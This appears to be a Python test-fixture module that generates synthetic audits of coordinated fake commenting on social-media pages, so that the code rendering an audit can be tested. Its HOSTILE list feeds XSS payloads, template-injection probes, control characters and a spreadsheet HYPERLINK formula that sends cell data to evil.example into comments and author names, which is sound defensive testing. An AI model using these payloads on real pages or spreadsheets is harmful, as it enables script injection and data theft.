"""Invented audits for the tests of what reads an audit: reproducible, hostile where strangers write."""

from __future__ import annotations

import datetime as dt
import random
from typing import Any

import pyarrow as pa

from fakedetect.features.feature import Feature
from fakedetect.first_hours import lift
from fakedetect.schema import EDGES_OUT, GROUPS_OUT, POSTS_OUT, REJECTS, TIME, VERDICTS, Audit
from fakedetect.words import Text

START = dt.datetime(2024, 1, 8, 9, 0, tzinfo=dt.UTC)
HOSTILE = (
    "<script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?q="&A1,"prize")',
    "\u202egnihtemos ton si siht\u202c",
    "\u2067abc\u2069 \x1b[31mred\x07 \x00 nul",
    "{{ 7 * 7 }} {value} %s {% raw %}",
    "]]></svg></title></details><b onmouseover='x()'>",
    '" autofocus onfocus="alert(1)" x="',
    "javascript:alert(1) https://evil.example/track.png",
    "مرحبا بكم في صفحتنا",
    "谢谢分享 👏👏👏",
    "a" * 3000,
    "Z̷̢͎̘̲͔̎̾̒a̴͍͝l̸͎̈g̶̺̈́o",
)
TALK = (
    "Trop bien, hâte de goûter !",
    "Merci pour ce partage, on en veut encore",
    "Love this one, where can I find it near Lyon?",
    "Mes enfants adorent, bravo à toute l'équipe",
    "Not convinced by the new bottle, sorry",
    "Ma recette préférée de l'été, vraiment top",
    "first!",
    "👏👏",
)
RING = (
    "Une fraîcheur incroyable, je recommande les yeux fermés",
    "La fraîcheur incroyable que j'attendais, je recommande",
    "Toujours au top, je recommande les yeux fermés !",
)


def _feature(name: str, unit: Any, label: tuple[str, str], reason: tuple[str, str]) -> Feature:
    return Feature(
        name, "timing", "comments", unit, "unknown", "either", "avg(x)", Text(*label), Text(*reason)
    )


FEATURES = {
    f.name: f
    for f in (
        _feature(
            "near_gap_median_s",
            "s",
            ("Gap to its group", "Écart au groupe"),
            (
                "it usually comments {value} from the nearest member of its group (typical {typical})",
                "il commente d'ordinaire à {value} du plus proche membre du groupe (habituel {typical})",
            ),
        ),
        _feature(
            "copied_share",
            "share",
            ("Copied texts", "Textes copiés"),
            (
                "{value} of its texts use a phrase that others also use (typical {typical})",
                "{value} de ses textes reprennent une phrase d'autres comptes (habituel {typical})",
            ),
        ),
        _feature(
            "gap_variation",
            "ratio",
            ("Regularity", "Régularité"),
            (
                "its intervals vary by {value} (typical {typical})",
                "ses intervalles varient de {value} (habituel {typical})",
            ),
        ),
        _feature(
            "group_p_log10",
            "log10",
            ("Rarity of its group", "Rareté de son groupe"),
            (
                "chance alone makes a group like its own once in {value} pages (typical {typical})",
                "le hasard seul fait un groupe comme le sien une fois sur {value} pages (habituel {typical})",
            ),
        ),
        _feature(
            "account_age_days",
            "days",
            ("Age", "Ancienneté"),
            (
                "the account was {value} days old at its first comment (typical {typical})",
                "le compte avait {value} jours à son premier commentaire (habituel {typical})",
            ),
        ),
    )
}
REFUSAL_WORDS = {
    "incomplete": (
        Text(
            "half of the posts hold less than {percent}% of the comments that the platform counts",
            "la moitié des publications contient moins de {percent} % des commentaires annoncés",
        ),
        Text(
            "an export of all comments of each post",
            "un export de tous les commentaires de chaque publication",
        ),
    ),
}
TEST_LABELS = {"first_hour": Text("Share of the first hour", "Part de la première heure")}


def make_audit(
    *,
    shape: str = "found",
    n_accounts: int = 600,
    n_posts: int = 80,
    pages: int = 1,
    groups: int = 1,
    seed: int = 7,
    hostile: bool = True,
) -> Audit:
    """An audit whose finding is `shape`: found (a group of 9, and 3 reviews), clean or unknown."""
    draw = random.Random(seed)
    ring = 9 if shape == "found" else 0
    page_of = [f"page {k % pages}" if pages > 1 else "Soda & <b>Co</b>" for k in range(n_posts)]
    when = [START + dt.timedelta(hours=37 * k) for k in range(n_posts)]
    posts = [f"post_{k:04d}" for k in range(n_posts)]
    comments: list[dict[str, Any]] = []

    def comment(author: int, post: int, delay_s: float, text: str) -> None:
        comments.append(
            {
                "comment_id": f"c{len(comments):07d}",
                "post_id": posts[post],
                "author_id": f"id{author}",
                "probability": None,
                "verdict": "no_evidence",
                "page_id": page_of[post],
                "comment_time": when[post] + dt.timedelta(seconds=round(delay_s)),
                "text": text,
                "author_name": None,
                "delay_s": float(round(delay_s)),
                "delay_u": None,
                "source": "dump.csv",
                "row": len(comments) + 1,
            }
        )

    for g in range(groups if ring else 0):
        for post in range(g % 3, n_posts, 3):
            start = draw.uniform(60, 900)
            for member in range(ring):
                if draw.random() < 0.6:
                    gap = draw.choice((8, 25, 40, 200, 4000))
                    text = (
                        HOSTILE[(post + member) % len(HOSTILE)]
                        if hostile and draw.random() < 0.3
                        else draw.choice(RING)
                    )
                    comment(g * ring + member, post, start + gap * member, text)
    for author in range(ring * groups, n_accounts):
        for _ in range(1 + int(draw.paretovariate(1.3))):
            if len(comments) < 12 * n_accounts:
                comment(author, draw.randrange(n_posts), draw.expovariate(1 / 40000), draw.choice(TALK))

    verdicts, group_ids = _verdicts(shape, n_accounts, ring, groups)
    for row in comments:
        row["verdict"] = verdicts[int(row["author_id"].removeprefix("id"))]
    accounts = _accounts(draw, comments, verdicts, group_ids, hostile)
    by_verdict = {v: verdicts.count(v) for v in VERDICTS}
    written = pa.Table.from_pylist(comments, _COMMENTS)
    under = pa.Table.from_pylist(
        [_post(draw, p, page, t, shape) for p, page, t in zip(posts, page_of, when, strict=True)], POSTS_OUT
    )
    return Audit(
        accounts=accounts,
        comments=written,
        posts=under,
        groups=pa.Table.from_pylist(
            [_group(g, when, posts) for g in range(groups if ring else 0)], GROUPS_OUT
        ),
        edges=pa.Table.from_pylist(
            [_edge(g, a, b) for g in range(groups) for a in range(ring) for b in range(a + 1, ring)],
            EDGES_OUT,
        ),
        rejects=pa.Table.from_pylist(
            [
                {
                    "source": "dump.csv",
                    "row": k,
                    "reason": ("duplicate", "no author <b>")[k % 2],
                    "raw": HOSTILE[0],
                }
                for k in range(5)
            ],
            REJECTS,
        ),
        summary={**_summary(shape, len(comments), by_verdict, groups if ring else 0),
                 "first_hour_lift": lift(written, under, fdr=0.05, seed=0)},
        manifest={},
    )


_COMMENTS = pa.schema(
    [
        ("comment_id", pa.string()),
        ("post_id", pa.string()),
        ("author_id", pa.string()),
        ("probability", pa.float64()),
        ("verdict", pa.string()),
        ("page_id", pa.string()),
        ("comment_time", TIME),
        ("text", pa.string()),
        ("author_name", pa.string()),
        ("delay_s", pa.float64()),
        ("delay_u", pa.float64()),
        ("rating", pa.float64()),
        ("source", pa.string()),
        ("row", pa.int64()),
    ]
)
_ACCOUNTS = pa.schema(
    [
        ("author_id", pa.string()),
        ("author_name", pa.string()),
        ("n_comments", pa.int64()),
        ("n_posts", pa.int64()),
        ("probability", pa.float64()),
        ("p_value", pa.float64()),
        ("q_value", pa.float64()),
        ("verdict", pa.string()),
        ("group_id", pa.string()),
        ("reasons", pa.list_(pa.string())),
        ("counter", pa.list_(pa.string())),
        ("label", pa.string()),
        ("page_ids", pa.list_(pa.string())),
        *((name, pa.float64()) for name in FEATURES),
    ]
)


def _verdicts(shape: str, n: int, ring: int, groups: int) -> tuple[list[str], list[str | None]]:
    verdicts = ["not_enough_data" if shape == "unknown" or k % 3 else "no_evidence" for k in range(n)]
    group_ids: list[str | None] = [None] * n
    for k in range(ring * groups):
        verdicts[k], group_ids[k] = "suspect", f"g{k // ring + 1}"
    if ring:
        verdicts[ring * groups : ring * groups + 3] = ["review"] * 3
        verdicts[-1], verdicts[-2] = "declared", "disclosed"
    return verdicts, group_ids


def _accounts(
    draw: random.Random,
    comments: list[dict[str, Any]],
    verdicts: list[str],
    groups: list[str | None],
    hostile: bool,
) -> pa.Table:
    written: dict[str, list[dict[str, Any]]] = {}
    for row in comments:
        written.setdefault(row["author_id"], []).append(row)
    rows = []
    for k, verdict in enumerate(verdicts):
        mine = written.get(f"id{k}", [])
        flagged = verdict in ("suspect", "review")
        letter = {"suspect": "S", "review": "R", "declared": "D"}.get(verdict, "A")
        rows.append(
            {
                "author_id": f"id{k}",
                "author_name": HOSTILE[k] if hostile and k < len(HOSTILE) else f"Camille Martin {k % 400}",
                "n_comments": len(mine),
                "n_posts": len({r["post_id"] for r in mine}),
                "probability": (0.97 if verdict == "suspect" else 0.6) if flagged else 0.001,
                "p_value": 1 / 4000 if flagged else 0.4,
                "q_value": 0.003 if verdict == "suspect" else 0.2,
                "verdict": verdict,
                "group_id": groups[k],
                "reasons": ["near_gap_median_s", "copied_share", "group_p_log10"] if flagged else [],
                "counter": ["gap_variation"] if flagged and k % 2 else [],
                "label": f"{letter}{k:02d}",
                "page_ids": sorted({r["page_id"] for r in mine}),
                "near_gap_median_s": draw.uniform(10, 60) if flagged else draw.uniform(600, 90000),
                "copied_share": 0.8 if flagged else draw.uniform(0, 0.1),
                "gap_variation": draw.uniform(0.2, 1.4),
                "group_p_log10": 3.3 if groups[k] else None,
                "account_age_days": None,
            }
        )
    return pa.Table.from_pylist(rows, _ACCOUNTS)


def _post(draw: random.Random, post: str, page: str, when: dt.datetime, shape: str) -> dict[str, Any]:
    expected = draw.uniform(0.12, 0.2)
    over = shape == "found" and draw.random() < 0.15
    share = min(1.0, draw.uniform(0.32, 0.6) if over else max(0.0, draw.gauss(expected, 0.05)))
    known = shape != "unknown"
    return {
        "post_id": post,
        "page_id": page,
        "post_time": when,
        "n_comments": draw.randrange(20, 90),
        "first_hour_share": share if known else None,
        "expected_first_hour_share": expected if known else None,
        "burst_p_value": (0.0004 if over else 0.4) if known else None,
        "suspect_share": 0.12 if over else 0.0,
        "expected_low": expected - 0.1 if known else None,
        "expected_high": expected + 0.13 if known else None,
        "n_first_hour": 9,
    }


def _group(g: int, when: list[dt.datetime], posts: list[str]) -> dict[str, Any]:
    return {
        "group_id": f"g{g + 1}",
        "n_accounts": 9,
        "n_posts": 27,
        "p_value": 1 / 2000,
        "q_value": 0.004,
        "kind": "synchronised",
        "first_seen": when[0],
        "last_seen": when[-1],
        "page_ids": ["page 0"],
        "median_gap_s": 26.0,
        "exhibit_posts": posts[g % 3 :: 3][:6],
    }


def _edge(g: int, a: int, b: int) -> dict[str, Any]:
    return {
        "group_id": f"g{g + 1}",
        "author_a": f"id{g * 9 + a}",
        "author_b": f"id{g * 9 + b}",
        "n_shared": 11 + a,
        "n_close": 9,
        "median_gap_s": 20.0 + b,
        "p_value": 10.0 ** -(3 + (a + b) % 5),
    }


def _summary(shape: str, n_comments: int, by_verdict: dict[str, int], groups: int) -> dict[str, Any]:
    tried = [
        {
            "n_accounts": n,
            "participation": share,
            "gap_s": gap,
            "probability": min(0.99, n * share / (3 + gap / 200)),
        }
        for n in (5, 13)
        for share in (0.25, 0.6)
        for gap in (60, 300, 900)
    ]
    smallest = None if shape == "unknown" else {"n_accounts": 5, "participation": 0.6, "probability": 0.9}
    refused = [
        {
            "test": "first_hour",
            "reason": "half of the posts hold less than 40%",
            "restore": "all comments",
            "code": "incomplete",
            "page_id": None,
            "values": {"percent": 40},
        }
    ]
    refused += [
        {
            "test": "profile",
            "reason": "no <i>profiles</i>",
            "restore": "add --accounts",
            "code": "",
            "values": {},
        }
    ]
    return {
        "rows": {"read": n_comments + 5, "scored": n_comments, "rejected": 5},
        "accounts": {"total": sum(by_verdict.values()), **by_verdict},
        "groups": groups,
        "inauthentic_share": {"estimate": 0.034, "low": 0.021, "high": 0.05},
        "power": {"rings": [] if shape == "unknown" else tried, "smallest": smallest, "reason": None},
        "refused": [] if shape == "clean" else refused,
        "fdr": 0.05,
        "page_alpha": 0.02,
        "base_rate": 0.00065,
        "truncated": shape == "unknown",
        "zone": "Europe/Paris",
        "kind": "comments",
        "formats": ["csv"],
        "notes": [{"code": "mojibake", "text": "é was read as é <script>", "fr": "é lu comme é <script>",
                   "source": "dump<b>.csv"}],
        "pages": 1,
        "versions": {"fakedetect": "0.1.0", "python": "3.11"},
        "model": {"name": "sim-1", "fingerprint": "ab12cd34"},
    }
